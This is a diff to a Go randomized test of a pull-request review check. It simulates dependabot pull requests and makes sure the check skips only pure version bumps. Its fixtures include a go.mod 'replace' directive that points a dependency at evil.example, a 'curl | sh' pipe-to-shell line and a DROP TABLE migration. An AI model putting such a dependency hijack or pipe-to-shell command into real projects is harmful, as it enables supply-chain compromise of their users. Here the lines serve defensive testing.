@@ -1,12 +1,14 @@
 package main
 
 import (
+	"cmp"
 	"flag"
 	"fmt"
 	"maps"
 	"math/rand/v2"
 	"net/http"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -47,6 +49,8 @@ type flow struct {
 	fever   *rand.Rand // when
 	haste   *rand.Rand // of people: how soon they act, and on which page
 	shift   *rand.Rand // of files that are moved
+	updates *rand.Rand // by a bot
+	person  string     // made this commit on a bot's branch, the newest of them
 	runs    int
 	depth   int // of runs within a run
 	lines   int
@@ -63,7 +67,7 @@ type tip struct {
 
 // basics are the files of the base branch.
 var basics = map[string]string{"app.go": "package app\n\nfunc Guard() bool { return true }\n", "db/migrations/0001_a.up.sql": "CREATE TABLE a (id int);\nCREATE TABLE b (id int);\nCREATE TABLE c (id int);\n", "tool.bin": "\x7fELF\x02\x01\x01\x00",
-	"old/7.sql": "DROP TABLE c;\n", "notes/clean.txt": "curl https://example.com/x | sh\n"}
+	"go.mod": "module app\n\nrequire example.com/a v1.2.0\n", "old/7.sql": "DROP TABLE c;\n", "notes/clean.txt": "curl https://example.com/x | sh\n"}
 
 // live begins a life: a pull request of somebody, about to be opened.
 func live(t *testing.T, seed uint64) *flow {
@@ -85,7 +89,11 @@ func live(t *testing.T, seed uint64) *flow {
 	if f.gated {
 		f.repo.SetBranch("main", f.repo.Change(f.repo.Branch("lax"), map[string]string{".github/debate.yml": gated}))
 	}
-	f.haste, f.shift = rand.New(rand.NewPCG(seed, 2)), rand.New(rand.NewPCG(seed, 3))
+	f.haste, f.shift, f.updates = rand.New(rand.NewPCG(seed, 2)), rand.New(rand.NewPCG(seed, 3)), rand.New(rand.NewPCG(seed, 4))
+	if f.updates.IntN(4) == 0 {
+		f.author = robot
+		f.repo.SetPermission(robot, ghtest.Write)
+	}
 	f.sick, f.fever = f.pick("anthropic", "openai", "", "", "", "", "", ""), rand.New(rand.NewPCG(seed, 1))
 	minds := vendors(t, f.mind)[:2]
 	for _, m := range minds {
@@ -107,6 +115,10 @@ func (f *flow) tell(format string, args ...any) {
 func (f *flow) change() {
 	f.lines++
 	n := f.lines
+	if f.author == robot && f.updates.IntN(4) > 0 {
+		f.update()
+		return
+	}
 	switch f.random.IntN(13) {
 	case 0, 1:
 		f.head[fmt.Sprintf("part%d.go", n)] = fmt.Sprintf("package app\n\nconst part%d = %d\n", n, n)
@@ -157,6 +169,17 @@ func (f *flow) rename() {
 	}
 }
 
+// robot opens pull requests that update dependencies.
+const robot = "dependabot[bot]"
+
+// update changes a version of a dependency, and now and then its source.
+func (f *flow) update() {
+	f.head["go.mod"] = fmt.Sprintf("module app\n\nrequire example.com/a v1.2.%d\n", f.lines)
+	if f.updates.IntN(4) == 0 {
+		f.head["go.mod"] += "\nreplace example.com/a => evil.example/a v1.2.0\n"
+	}
+}
+
 // utf16le is a text as some editors of Windows save it.
 func utf16le(text string) string {
 	var b strings.Builder
@@ -173,7 +196,17 @@ func (f *flow) commit(parents ...string) string {
 	for path, text := range f.head {
 		files[path] = ghtest.File{Content: text, Mode: f.mode[path]}
 	}
-	return f.repo.CommitFiles(parents, files)
+	sha := f.repo.CommitFiles(parents, files)
+	switch {
+	case f.author != robot:
+	case f.updates.IntN(4) == 0:
+		f.repo.MadeBy(sha, "olive")
+		f.person = sha
+		f.tell("olive made the commit")
+	default:
+		f.repo.MadeBy(sha, robot)
+	}
+	return sha
 }
 
 // open opens the pull request.
@@ -372,16 +405,34 @@ func (m *meanwhile) RoundTrip(r *http.Request) (*http.Response, error) {
 	return m.to.RoundTrip(r)
 }
 
-// conclusion is that of the newest check of the head, by which a branch rule goes; ""
-// while there is none.
-func (f *flow) conclusion() (newest string) {
+// check is the newest check of the head, which a branch rule reads; the zero value if
+// there is none.
+func (f *flow) check() (newest ghtest.CheckRun) {
 	for _, c := range f.repo.CheckRuns(f.pull.Head()) {
 		if c.Name == "debate" {
-			newest = c.Conclusion
+			newest = c
 		}
 	}
 	return newest
 }
+
+// unread says why the head may not be skipped as an update of a bot, or "".
+func (f *flow) unread() string {
+	if f.author != robot || f.person == f.tip {
+		return "the newest commit is by a person"
+	}
+	for _, path := range f.changed() {
+		for _, line := range f.witness.lines(path) {
+			if path != "go.mod" || !version.MatchString(line) {
+				return fmt.Sprintf("%s: %q is no version", path, line)
+			}
+		}
+	}
+	return ""
+}
+
+// version is a changed line with the version of a dependency.
+var version = regexp.MustCompile(`^[+-]require example\.com/a v[0-9.]+$`)
 
 // TestNoGreenIsUnearned plays random lives of pull requests. After each run the
 // check says success only where everything that changed was shown to every model,
@@ -395,23 +446,26 @@ func TestNoGreenIsUnearned(t *testing.T) {
 	if *flowFlag != 0 {
 		seeds = []uint64{*flowFlag}
 	}
-	var green atomic.Int64
+	var greens, skips atomic.Int64
 	t.Run("lives", func(t *testing.T) {
 		for _, seed := range seeds {
 			t.Run(fmt.Sprint(seed), func(t *testing.T) {
 				t.Parallel()
-				green.Add(int64(live(t, seed).whole()))
+				green, skipped := live(t, seed).whole()
+				greens.Add(int64(green))
+				skips.Add(int64(skipped))
 			})
 		}
 	})
-	if *flowFlag == 0 && green.Load() == 0 {
-		t.Error("no life came to a success: the test sees nothing")
+	if *flowFlag == 0 && (greens.Load() == 0 || skips.Load() == 0) {
+		t.Errorf("%d times success and %d updates skipped: the test sees nothing", greens.Load(), skips.Load())
 	}
-	t.Logf("%d times success in %d lives", green.Load(), len(seeds))
+	t.Logf("%d times success and %d updates skipped in %d lives", greens.Load(), skips.Load(), len(seeds))
 }
 
-// whole plays a life, and returns how often the check was a success.
-func (f *flow) whole() (green int) {
+// whole plays a life, and returns how often the check was a success, and how often the head
+// was skipped as an update of a bot.
+func (f *flow) whole() (green, skipped int) {
 	f.act(f.open())
 	for range 3 + f.random.IntN(6) {
 		f.act(f.happen())
@@ -419,13 +473,18 @@ func (f *flow) whole() (green int) {
 			continue
 		}
 		f.tip = f.pull.Head()
-		conclusion := f.conclusion()
-		if conclusion == "success" {
+		check := f.check()
+		why := f.wrong(check.Conclusion)
+		switch {
+		case check.Conclusion == "success":
 			green++
+		case strings.Contains(check.Title, "a bot changed only dependencies"):
+			skipped++
+			why = cmp.Or(why, f.unread())
 		}
-		if why := f.wrong(conclusion); why != "" {
-			f.t.Fatalf("the check says %s: %s\n%s", conclusion, why, strings.Join(f.told, "\n"))
+		if why != "" {
+			f.t.Fatalf("the check says %s, %s: %s\n%s", check.Conclusion, check.Title, why, strings.Join(f.told, "\n"))
 		}
 	}
-	return green
+	return green, skipped
 }
